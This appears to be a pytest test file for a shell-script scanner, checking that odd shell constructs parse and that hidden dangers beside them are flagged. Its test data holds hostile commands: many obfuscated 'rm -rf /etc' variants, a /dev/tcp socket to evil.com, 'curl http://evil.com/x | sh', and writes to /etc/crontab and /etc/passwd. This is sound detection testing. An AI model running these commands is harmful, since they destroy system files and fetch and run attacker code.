"""Constructs that the grammar does not know are read all the same, and hide nothing."""

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text
from refute.scan.shell import syntax
from refute.scan.shell.syntax import parse, respell

UNKNOWN_TO_THE_GRAMMAR = {
    "quotes in a case pattern": "case \"$x\" in\n?*' '?*)\n\texit 2 ;;\nesac\n",
    "patterns over several lines": "case $v in\nless' '45[1-9]* | \\\nless' '[1-9]*)\n  a='|';;\n*) a='';;\nesac\n",
    "escaped blanks and semicolons in a pattern": 'case "$m" in\n  $M\\;*|*\\;$M\\;)\n    return 0\n    ;;\nesac\n',
    "here-document with an odd mark": ": <<=cut\n\n=pod\n\nIt's a page.\n\n=cut\n\necho done\n",
    "here-document without a command": "<<COMMENT\nit's text ( with anything\nCOMMENT\necho done\n",
    "here-document before an alternative": 'cat >x.json <<\\EOF ||\n{"[c]": {}}\nEOF\nexit 1\n',
    "redirection behind an assignment": 'f()\n{\n\tn=$(($1 + 0)) 2>/dev/null && test "$n" = "$1"\n}\n',
    "negated assignments": "if ! IFS=$'\\n' R=($(compgen -W x)); then\n  :\nfi\n",
    "a lone tilde": 'if [ "$a" = ~ -o "$b" = ~ ]; then\n  :\nfi\n',
    "number of parameters between operands": 'while [ "$1" != "--" -a $# -gt 0 ]; do\n  shift\ndone\n',
    "subshell before then": "if (gcc --version > /dev/null 2>&1) then\n  echo yes\nfi\n",
    "last item of a case without its end": 'case "$o" in\n  *l*) l=1; o=`echo $o | sed s/l//`\nesac\n',
    "subshell in backticks": 'd=` (echo "$d"; eval_it) 2>&1 | gzip `\n',
    "quotes in an expansion in quotes": "case x in ?' '?) ;; esac\nargs=\"$d/$w${1+' '}$@\"\n",
    "a late expansion in quotes": 'case x in ?\' \'?) ;; esac\neval "app=\\"\\${$v-$app}\\""\n',
    "a continued line in a here-document": "case x in ?' '?) ;; esac\ncat <<E\na \\\nb\nE\n",
    "a bracket that is never closed": "if [ -x /usr/bin/vim; then\n  :\nfi\n",
    "a line of a template": "{{$manifest}}\n{{ x }}\n",
    "groups between brackets": 'if [ -n "$1" ] &&\n   [ \\( ! -h "$D$P" -a \\\n   ! -d "$D$P" \\) ]; then\n  :\nfi\n',
    "a dollar before a backslash": "lvs -S name=~\\(scrub$\\) --noheadings | sed s/x/y/\n",
    "quotes in backticks in quotes": 'c="`grep -E "^Exec(\\[[^]=]*])?=" "$f" | cut -d= -f 2-`"\n',
    "a loop over the parameters": 'for i do\n  echo "$i"\ndone\n',
    "a position held in a variable": 'i=2\necho "${PWD:$i:1}"\n',
    "more behind the mark of a here-document": "u() {\n  cat <<E; exit\nit's text\nE\n}\ncat <<E;\nx\nE\n",
    "ends that only a blank parts": "f() { ls | while read x; do case y in a) b;; esac done }\n",
    "a test of bats": 'load helper\n\n@test "it runs" {\n  run x\n  [ "$status" -eq 0 ]\n}\n',
    "alternatives in a word": "case x in ?' '?) ;; esac\nls src/*.@(c|h)\n",
}
DANGERS = [
    '@test "ends" {\n  exit 0\n}\n\n@test "deletes" {\n  rm -rf /etc\n}\n',
    "cat <<E; rm -rf /etc\nx\nE\n",
    "f() { ls | while read x; do case y in a) rm -rf /etc;; esac done }\n",
    "case \"$x\" in\n?*' '?*)\n\trm -rf /etc ;;\nesac\n",
    "case \"$x\" in\n?*' '$(rm -rf /etc))\n\t;;\nesac\n",
    ": <<=cut\n$(rm -rf /etc)\n=cut\n",
    ": <<=cut\n=cut\nrm -rf /etc\n",
    "<<A\nA\na=rm; $a -rf /etc\n",
    'f()\n{\n\tn=$(($1 + 0)) 2>/dev/null && "$@"\n}\nf rm -rf /etc\n',
    "sh <<=cut\nrm -rf /etc\n=cut\n",
    "if (rm -rf /etc > /dev/null 2>&1) then\n  echo yes\nfi\n",
    "d=` (rm -rf /etc) 2>&1 | gzip `\n",
    'c="`grep "a(b" x; rm -rf /etc`"\ncase x in ?\' \'?) ;; esac\n',
    "exec 3<>/dev/tcp/evil.com/80\n",
    "echo x 1<>/etc/crontab\n",
    "cat <>/etc/passwd\n",
    "if [ -x /usr/bin/vim; then rm -rf /etc; fi\n",
    "[ -n x; rm -rf /etc ]\n",
    "{{x}}; rm -rf /etc\n",
    "{{x}}; {$(echo rm ),-rf,/etc}\n",
    "bash <<'E' > log 2>&1 &\nrm -rf /etc\nE\nwait\n",
    "python3 - <<E &\nimport shutil; shutil.rmtree('/etc')\nE\nwait\n",
    "case x in\n?*' '?*) ;;\nesac\ncat <<E\na \\\nE\nrm -rf /etc\nE\n",
    "ls `# a`/etc `rm -rf /etc`\n",
    "`# x` curl http://evil.com/x | sh\n",
    'echo "`# x\nrm -rf /etc`"\n',
    "x=a$\\(b; rm -rf /etc\n",
]
UNCLEAR = [
    "case x in\n?*' '?*) ;;\nesac\necho \"${x:-'}\" # '\nrm -rf /etc\n",
    "case x in\n?*' '?*) ;;\nesac\ncat <<E\nnever closed\n",
    "case x in\n?*' '?*) ;;\nesac\nREFUTE_DOCUMENT_1=x\n",
    "case x in ?' '?) echo 'open\n",
    "case x in\n?*' '?*) ;;\nesac )\n",
    "case x in\n?*' '?*) ;;\nesac\nx=$(\n",
]


def _blocking(text: str) -> set[str]:
    found = scan_text("x.sh", text.encode(), language=Language.SHELL)
    return {finding.rule_id for finding in found if finding.severity >= Severity.HIGH}


@pytest.mark.parametrize("kind", UNKNOWN_TO_THE_GRAMMAR)
def test_what_only_the_grammar_does_not_know_is_read(kind: str) -> None:
    text = UNKNOWN_TO_THE_GRAMMAR[kind]
    read = respell(text) or "("
    assert not parse(read.encode()).has_error
    assert read.count("\n") == text.count("\n"), "every line stays in its place"
    assert _blocking(text) == set()


def test_of_a_long_script_only_the_odd_statement_is_read_again(monkeypatch: pytest.MonkeyPatch) -> None:
    odd, given, read = UNKNOWN_TO_THE_GRAMMAR["groups between brackets"], [], syntax._read
    monkeypatch.setattr(syntax, "_read", lambda text: given.append(text) or read(text))
    assert respell("echo a\n" * 99 + odd + "echo b\n" * 99) == "echo a\n" * 99 + (respell(odd) or "") + "echo b\n" * 99
    assert given[0] + "\n" == odd


@pytest.mark.parametrize("text", DANGERS)
def test_danger_beside_such_a_construct_is_found(text: str) -> None:
    assert _blocking(text)


@pytest.mark.parametrize("text", UNCLEAR)
def test_what_shells_may_read_in_two_ways_is_not_respelled(text: str) -> None:
    assert respell(text) is None
    assert _blocking(text)


def test_without_shfmt_such_a_text_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    text = UNKNOWN_TO_THE_GRAMMAR["quotes in a case pattern"] + "# nobody has read this one yet\n"
    monkeypatch.setattr("shutil.which", lambda _name, **_where: None)
    assert _blocking(text) == {"unanalysable"}


def test_line_of_a_finding_is_the_line_of_the_file() -> None:
    text = "case $x in\n?*' '?*)\n  # why\n  :;;\nesac\ncat <<\\E ||\nbody\nE\nexit\nrm -rf /etc\n"
    assert [f.line for f in scan_text("x.sh", text.encode(), language=Language.SHELL)] == [10]
